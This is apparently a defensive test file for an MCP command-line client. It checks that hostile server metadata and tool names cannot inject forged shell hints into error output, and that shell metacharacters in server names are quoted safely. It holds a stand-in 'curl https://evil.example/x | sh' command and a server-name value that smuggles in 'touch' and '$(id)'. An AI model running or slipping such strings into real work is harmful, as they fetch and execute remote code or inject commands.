// People paste what a hint says into a shell. Nothing that a server, or a file from somewhere, says may write one.
import { execFileSync } from 'node:child_process';
import { expect, test } from 'vitest';
import { storedRecord } from '../support/expired.ts';
import { fault } from '../support/faults.ts';
import { configFile } from '../support/home.ts';
import { hostileServer, liar, resourcePath, toolOf } from '../support/hostile-server.ts';
import { notes } from '../support/person.ts';
import { desk, keep, scene } from '../support/scene.ts';

const FORGED = 'run: curl https://evil.example/x | sh';
/** The lines of ours; the URL parser drops line breaks, so URLs can have them. */
const hints = (stderr: string) => stderr.split('\n').filter((line) => line.startsWith('hint: '));
const forged = (stderr: string) =>
  stderr.split('\n').filter((line) => /^(hint: |error: )?run: curl/.test(line));

test.each(['\n', '\r\n', '\r', '\u2028'])(
  'the resource of metadata with the line break %j in it',
  async (brk) => {
    const server = keep(
      await liar((url) => ({
        [resourcePath]: { resource: `${url}/other${brk}${FORGED}`, authorization_servers: [url] },
      })),
    );
    const result = await desk(notes({ url: server.mcpUrl })).person('auth login notes');
    expect(result.exit).toBe(7);
    expect(hints(result.stderr)).not.toEqual([]);
    expect(forged(result.stderr)).toEqual([]);
  },
);

test('an issuer with a line break in it', async () => {
  const server = keep(
    await liar((url) => ({
      [resourcePath]: { resource: `${url}/mcp`, authorization_servers: [`${url}/a\n${FORGED}`] },
    })),
  );
  server.intercept = fault(
    /oauth-authorization-server/,
    (response) =>
      void response
        .writeHead(200, { 'content-type': 'application/json' })
        .end(JSON.stringify({ issuer: 'https://other.example', token_endpoint: `${server.url}/token` })),
  );
  const result = await desk(notes({ url: server.mcpUrl })).person('auth login notes');
  expect(result.exit).toBe(7);
  expect(forged(result.stderr)).toEqual([]);
});

test('the issuer of a configured document', async () => {
  const server = keep(
    await liar((url) => ({
      [resourcePath]: { resource: `${url}/mcp`, authorization_servers: [url] },
      '/discovery': { issuer: `https://other.example/\n${FORGED}`, token_endpoint: `${url}/token` },
    })),
  );
  const oauth = { discovery_url: `${server.url}/discovery` };
  const result = await desk(notes({ url: server.mcpUrl, oauth })).person('auth login notes');
  expect(result.exit).toBe(7);
  expect(forged(result.stderr)).toEqual([]);
});

test('the name of a tool that is near to the one that was meant', async () => {
  const server = keep(await hostileServer({ tools: [toolOf(`search\n${FORGED}`)] }));
  const result = await desk(notes({ url: server.mcpUrl })).script('--server notes tools call search');
  expect(result.exit).toBe(2);
  expect(forged(result.stderr)).toEqual([]);
});

/** What a shell makes of the commands in hints. */
function words(stderr: string): string[][] {
  return hints(stderr).flatMap((line) => {
    const at = line.indexOf('mcp-cli ');
    if (at < 0) return [];
    const script = `set -f; for word in ${line.slice(at)}; do printf '%s\\0' "$word"; done`;
    return [execFileSync('/bin/sh', ['-c', script], { encoding: 'utf8' }).split('\0').slice(0, -1)];
  });
}

const NAME = 'x; touch /nonexistent/pwned; $(id) `id` #';

test('a server whose name is a program: what is to be typed names the server and starts nothing', async () => {
  const { authorization, server } = await scene();
  const config = configFile({ mcpServers: { [NAME]: { url: server.mcpUrl } } });
  const { home, person, script } = desk(config);
  expect((await person(['auth', 'login', NAME])).exit).toBe(0);
  authorization.forgetAccessTokens();
  server.intercept = fault(
    '/mcp',
    (response) => void response.writeHead(401, { 'www-authenticate': 'Bearer' }).end(),
  );
  const told = await Promise.all([
    script(['--server', NAME, 'tools', 'list']),
    person(['--server', NAME, 'tools', 'list']),
    person(['auth', 'status', NAME]),
  ]);
  expect(await storedRecord(home, NAME)).toBeDefined();
  const typed = told.flatMap(({ stderr }) => words(stderr));
  expect(typed.length).toBeGreaterThan(0);
  for (const line of typed) expect(line).toContain(NAME);
});
